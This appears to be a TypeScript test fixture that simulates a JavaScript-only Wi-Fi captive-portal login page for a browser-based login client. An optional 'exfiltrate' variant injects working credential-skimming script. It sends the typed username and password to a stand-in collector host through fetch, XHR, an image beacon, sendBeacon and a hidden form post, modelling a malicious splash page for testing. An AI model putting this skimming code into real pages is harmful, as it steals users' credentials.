import { randomBytes } from "node:crypto";
import { z } from "zod";
import { defineBehaviour } from "../fixture-schema.ts";
import { escapeHtml, html, json, page, redirect } from "../html.ts";
import type { PortalRequest, ScenarioEnv } from "../types.ts";

/**
 * A single-page-app portal: the HTML holds no form, only a script that builds one and
 * submits it with `fetch()` as JSON, with a proof computed in the page (the reversed
 * nonce, base64) and the nonce in a header. Nothing in the markup can be posted; a client
 * needs a browser (or a plugin that knows this API). The page is real, working
 * JavaScript, so the headless-Chromium engine can log in with it.
 */

const path = z.string().startsWith("/");
const params = z
  .object({
    loginPath: path.default("/app/login"),
    apiLoginPath: path.default("/app/api/session"),
    welcomePath: path.default("/app/welcome"),
    title: z.string().min(1).default("City Wi-Fi"),
    sessionSeconds: z.number().int().nonnegative().default(0),
    /**
     * The page's script also copies the typed account to another host (`collectorHost`,
     * by default `localhost` on loopback and `collector.example` in namespace mode) by
     * every route a page has: fetch, XMLHttpRequest, an image beacon, sendBeacon and a
     * form posted into a hidden frame. Models a compromised or malicious splash page.
     */
    exfiltrate: z.boolean().default(false),
    collectorHost: z.string().min(1).optional(),
  })
  .strict();
type Params = z.infer<typeof params>;

const COOKIE = "spa_sid";

/** What the page's script computes from the nonce; the server checks the same. */
export function jsProof(nonce: string): string {
  return Buffer.from([...nonce].reverse().join(""), "utf8").toString("base64");
}

/** The exfiltration the `exfiltrate` variant adds to the submit handler, towards `collector`. */
function exfiltration(collector: string): string {
  const c = JSON.stringify(collector);
  return `
    var stolen = "u=" + encodeURIComponent(user.value) + "&p=" + encodeURIComponent(pass.value);
    fetch(${c} + "/collect/fetch", { method: "POST", mode: "no-cors", body: JSON.stringify({ user: user.value, pass: pass.value }) }).catch(function () {});
    var xhr = new XMLHttpRequest(); xhr.open("GET", ${c} + "/collect/xhr?" + stolen); xhr.send();
    new Image().src = ${c} + "/collect/pixel.gif?" + stolen;
    if (navigator.sendBeacon) navigator.sendBeacon(${c} + "/collect/beacon", stolen);
    var frame = document.createElement("iframe"); frame.name = "sink"; frame.style.display = "none";
    document.body.appendChild(frame);
    var f = document.createElement("form"); f.method = "POST"; f.action = ${c} + "/collect/form"; f.target = "sink";
    var h = document.createElement("input"); h.type = "hidden"; h.name = "password"; h.value = pass.value;
    f.appendChild(h); document.body.appendChild(f); f.submit();
`;
}

function appPage(p: Params, nonce: string, collector: string | undefined): string {
  const script = `
(function () {
  var nonce = ${JSON.stringify(nonce)};
  var app = document.getElementById("app");
  var form = document.createElement("form");
  function field(label, name, type) {
    var p = document.createElement("p");
    var l = document.createElement("label");
    l.textContent = label + " ";
    var input = document.createElement("input");
    input.type = type; input.id = name; input.autocomplete = name === "pass" ? "current-password" : "username";
    l.appendChild(input); p.appendChild(l); form.appendChild(p);
    return input;
  }
  var user = field("Username", "user", "text");
  var pass = field("Password", "pass", "password");
  var button = document.createElement("button");
  button.type = "submit"; button.textContent = "Sign in";
  form.appendChild(button);
  var message = document.createElement("p");
  message.className = "error"; message.setAttribute("role", "alert");
  app.appendChild(form); app.appendChild(message);
  form.addEventListener("submit", function (event) {
    event.preventDefault();${collector === undefined ? "" : exfiltration(collector)}
    var proof = btoa(nonce.split("").reverse().join(""));
    fetch(${JSON.stringify(p.apiLoginPath)}, {
      method: "POST",
      headers: { "content-type": "application/json", "x-portal-nonce": nonce },
      body: JSON.stringify({ user: user.value, pass: pass.value, proof: proof })
    }).then(function (r) { return r.json(); }).then(function (answer) {
      if (answer.ok) { location.href = answer.next; } else { message.textContent = answer.error; }
    });
  });
})();
`;
  return page(
    `${p.title} - Sign in`,
    `  <h1>${escapeHtml(p.title)}</h1>\n  <div id="app"><noscript>This portal needs JavaScript.</noscript></div>\n  <script>${script}</script>`,
  );
}

const bodySchema = z.object({ user: z.string(), pass: z.string(), proof: z.string() }).strict();

function app(p: Params, env: ScenarioEnv) {
  const nonces = new Map<string, string>();
  return {
    routes: [
      {
        method: "GET" as const,
        path: p.loginPath,
        handle: () => {
          const sid = randomBytes(16).toString("hex");
          const nonce = randomBytes(9).toString("base64url");
          nonces.set(sid, nonce);
          const base = new URL(env.baseUrl);
          const collectorHost =
            p.collectorHost ?? (base.hostname === "127.0.0.1" ? "localhost" : "collector.example");
          const collector = p.exfiltrate
            ? `http://${collectorHost}${base.port === "" ? "" : `:${base.port}`}`
            : undefined;
          return html(200, appPage(p, nonce, collector), {
            "set-cookie": `${COOKIE}=${sid}; Path=/; HttpOnly; SameSite=Lax`,
          });
        },
      },
      {
        method: "POST" as const,
        path: p.apiLoginPath,
        handle: (req: PortalRequest) => {
          const nonce = nonces.get(req.cookies.get(COOKIE) ?? "");
          if (!nonce || req.headers["x-portal-nonce"] !== nonce) {
            return json(403, { ok: false, error: "Session expired, reload the page." });
          }
          let raw: unknown;
          try {
            raw = JSON.parse(req.body);
          } catch {
            return json(400, { ok: false, error: "Bad request." });
          }
          const body = bodySchema.safeParse(raw);
          if (!body.success || body.data.proof !== jsProof(nonce))
            return json(400, { ok: false, error: "Bad request." });
          if (body.data.user !== env.credentials.username || body.data.pass !== env.credentials.password) {
            return json(200, { ok: false, error: "Invalid username or password." });
          }
          env.authorize(req.client, p.sessionSeconds > 0 ? { seconds: p.sessionSeconds } : {});
          return json(200, { ok: true, next: `${env.baseUrl}${p.welcomePath}` });
        },
      },
      {
        method: "GET" as const,
        path: p.welcomePath,
        handle: (req: PortalRequest) =>
          env.isAuthorized(req.client)
            ? html(200, page("Welcome", "  <h1>Welcome!</h1>\n  <p>You're online.</p>"))
            : redirect(`${env.baseUrl}${p.loginPath}`),
      },
    ],
  };
}

export const jsOnlyBehaviour = defineBehaviour({
  params,
  build: (p) => ({ loginPath: p.loginPath, routes: (env) => app(p, env) }),
});
